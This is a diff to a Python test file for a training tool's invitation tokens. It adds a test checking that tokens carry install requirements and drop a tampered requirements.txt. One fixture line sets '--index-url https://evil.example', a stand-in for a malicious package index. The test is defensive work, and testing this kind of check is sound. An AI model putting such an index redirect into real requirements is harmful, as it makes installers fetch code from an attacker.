@@ -1,9 +1,11 @@
 """Who takes part, in all processes of a peer; the ways into a run; and what the owner keeps in its folder."""
 
+import base64
 import io
 import json
 import multiprocessing
 import os
+import re
 import sys
 import time
 from collections.abc import Callable
@@ -325,6 +327,21 @@ def test_an_invitation_is_a_line_to_type_and_no_secret_is_kept_of_it(owner: Owne
     assert not [
         secret for secret in (made.key.seed, made.key.seed.hex().encode(), token[60:].encode()) if secret in kept
     ]
+
+
+def test_a_token_says_what_to_install_to_whoever_has_no_trainkit_yet(owner: Owner, tmp_path: Path) -> None:
+    needs = [f"trainkit-vision @ git+https://git.example/anna/kit@{'ab' * 20}", "torch==2.14.*", "hivemind==1.1.*"]
+    admission.keep_needs(tmp_path, needs)
+
+    def told() -> str:
+        (word,) = re.findall(r"trainkit1\.(\S+)", admission.invite(owner, (EXAMPLE,), "anna", DAY, "volunteer")[1])
+        assert len(word) < 800
+        assert entry_of([], {"TRAINKIT_TOKEN": f"trainkit1.{word}"}, name="x").addresses == (EXAMPLE,)
+        return base64.urlsafe_b64decode(word + "==").decode(errors="replace")
+
+    assert json.dumps([EXAMPLE, *needs], separators=(",", ":")) in told()
+    (tmp_path / "requirements.txt").write_text("torch==2.14.*\n--index-url https://evil.example\n")
+    assert json.dumps([EXAMPLE]) in told()
 
 
 def test_everybody_of_a_name_is_revoked_and_stays_so(owner: Owner, tmp_path: Path) -> None:
